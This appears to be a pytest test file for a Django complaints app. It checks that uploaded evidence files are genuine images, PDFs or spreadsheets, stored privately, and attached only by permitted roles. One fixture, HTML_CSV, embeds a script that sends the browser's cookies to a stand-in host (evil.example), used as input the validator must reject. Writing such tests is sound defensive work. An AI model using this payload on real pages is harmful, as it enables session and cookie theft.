"""Evidence files: only photos, PDFs and spreadsheets that are what they claim, stored privately."""

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from aftersales import roles
from complaints import services
from complaints.models import Attachment, Complaint, ComplaintEvent
from customers.tests.factories import CustomerFactory

from .factories import ComplaintFactory

pytestmark = pytest.mark.django_db

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
XLSX = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64
CSV = "序号,故障,数量\n1,断路器拒合,2\n".encode("gbk")
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 32
HTML_CSV = "序号,故障\n1,<script>document.location='https://evil.example/?'+document.cookie</script>\n".encode()
PDF_HEADERS_ONLY = b"%PDF-" * 40

GOOD = [
    ("现场照片.jpg", JPEG, "image/jpeg"),
    ("IMG_0001.JPG", JPEG, "image/jpeg"),
    ("检测报告.pdf", PDF, "application/pdf"),
    ("备件清单.xlsx", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("故障记录.csv", CSV, "text/csv"),
    ("截图.webp", WEBP, "image/webp"),
]
BAD = [
    ("setup.exe", b"MZ\x90\x00" + b"\x00" * 64, "file_type"),
    ("照片", JPEG, "file_type"),  # no extension
    ("报告.pdf", b"MZ\x90\x00 not a pdf", "file_content"),
    ("照片.jpg", PDF, "file_content"),
    ("声音.webp", WAV, "file_content"),
    ("数据.csv", b"a,b\n\x00\x01\x02", "file_content"),
    ("网页.csv", HTML_CSV, "file_content"),
    ("伪造.pdf", PDF_HEADERS_ONLY, "file_content"),
    ("空白.pdf", b"", "file_empty"),
    ("大图.jpg", JPEG + b"\x00" * 200, "file_size"),
]


@pytest.fixture(autouse=True)
def small_uploads(settings):
    settings.UPLOAD_MAX_BYTES = 200


def upload(name, content):
    return SimpleUploadedFile(name, content)


def _stored_files(folder):
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize(("name", "content", "code"), BAD)
def test_complaint_with_a_bad_attachment_is_refused_and_nothing_is_written(
    name, content, code, people, customer, private_media
):
    with translation.override("en"), pytest.raises(ValidationError) as error:
        services.complaint_create(
            actor=people.engineer,
            customer=customer,
            title="异响",
            description="合闸异响",
            attachments=[upload("good.pdf", PDF), upload(name, content)],
        )
    assert error.value.code == code
    assert name in error.value.messages[0]
    assert not Complaint.objects.exists()
    assert not Attachment.objects.exists()
    assert _stored_files(private_media) == []


@pytest.mark.parametrize(("name", "content", "code"), BAD)
def test_bad_attachment_added_later_is_refused_and_nothing_is_written(
    name, content, code, people, customer, private_media
):
    complaint = ComplaintFactory(customer=customer, assignee=people.engineer)
    with translation.override("en"), pytest.raises(ValidationError) as error:
        services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload(name, content))
    assert error.value.code == code
    assert name in error.value.messages[0]
    assert not Attachment.objects.exists()
    assert not ComplaintEvent.objects.filter(action=ComplaintEvent.Action.ATTACHMENT).exists()
    assert _stored_files(private_media) == []


def test_oversize_message_names_the_file_and_the_limit(people, customer, private_media):
    complaint = ComplaintFactory(customer=customer)
    with translation.override("en"), pytest.raises(ValidationError) as error:
        services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload("大图.jpg", JPEG * 4))
    assert error.value.messages[0] == "大图.jpg is 300\xa0bytes; files may be at most 200\xa0bytes."


def test_csv_with_a_script_is_refused_with_the_reason(people, customer, private_media):
    complaint = ComplaintFactory(customer=customer, assignee=people.engineer)
    with translation.override("en"), pytest.raises(ValidationError) as error:
        services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload("网页.csv", HTML_CSV))
    assert error.value.messages == ["网页.csv contains web page or script markup, which a CSV file may not hold."]


def test_file_of_pdf_headers_only_is_refused_with_the_reason(people, customer, private_media):
    complaint = ComplaintFactory(customer=customer, assignee=people.engineer)
    with translation.override("en"), pytest.raises(ValidationError) as error:
        services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload("伪造.pdf", PDF_HEADERS_ONLY))
    assert error.value.messages == [
        "伪造.pdf is not a complete PDF file: its header, objects or end-of-file marker are missing."
    ]


def test_good_files_are_stored_privately_with_the_new_complaint(people, customer, private_media):
    complaint = services.complaint_create(
        actor=people.engineer,
        customer=customer,
        title="异响",
        description="合闸异响",
        attachments=[upload(name, content) for name, content, _type in GOOD],
    )
    attachments = list(complaint.attachments.order_by("id"))
    assert [(a.original_name, a.content_type, a.size) for a in attachments] == [
        (name, content_type, len(content)) for name, content, content_type in GOOD
    ]
    for attachment, (_name, content, _type) in zip(attachments, GOOD, strict=True):
        path = private_media / attachment.file.name
        assert path.is_file()
        assert path.read_bytes() == content
        assert attachment.file.name.startswith(f"complaints/{complaint.number}/")
        assert attachment.uploaded_by == people.engineer
    events = ComplaintEvent.objects.filter(complaint=complaint, action=ComplaintEvent.Action.ATTACHMENT)
    assert sorted(events.values_list("note", flat=True)) == sorted(name for name, _c, _t in GOOD)


@pytest.mark.parametrize(("name", "content", "content_type"), GOOD)
def test_good_file_added_later_is_stored_privately(name, content, content_type, people, customer, private_media):
    complaint = ComplaintFactory(customer=customer, assignee=people.engineer)
    attachment = services.attachment_add(actor=people.engineer, complaint=complaint, upload=upload(name, content))
    assert (attachment.original_name, attachment.content_type) == (name, content_type)
    assert (private_media / attachment.file.name).read_bytes() == content
    event = ComplaintEvent.objects.get(complaint=complaint, action=ComplaintEvent.Action.ATTACHMENT)
    assert (event.actor, event.note) == (people.engineer, name)


def test_sales_attach_files_to_their_own_customers_complaints_only(people, customer, private_media):
    own = ComplaintFactory(customer=customer)
    others = ComplaintFactory(customer=CustomerFactory(salesperson=people.other_sales))
    services.attachment_add(actor=people.sales, complaint=own, upload=upload("照片.jpg", JPEG))
    with pytest.raises(PermissionDenied):
        services.attachment_add(actor=people.sales, complaint=others, upload=upload("照片.jpg", JPEG))
    assert Attachment.objects.filter(complaint=others).count() == 0


@pytest.mark.parametrize("role", [roles.QUALITY_ENGINEER, roles.GENERAL_MANAGER, roles.WAREHOUSE_KEEPER])
def test_roles_that_do_not_handle_complaints_cannot_attach(role, role_user, customer, private_media):
    complaint = ComplaintFactory(customer=customer)
    with pytest.raises(PermissionDenied):
        services.attachment_add(actor=role_user(role), complaint=complaint, upload=upload("照片.jpg", JPEG))
    assert _stored_files(private_media) == []
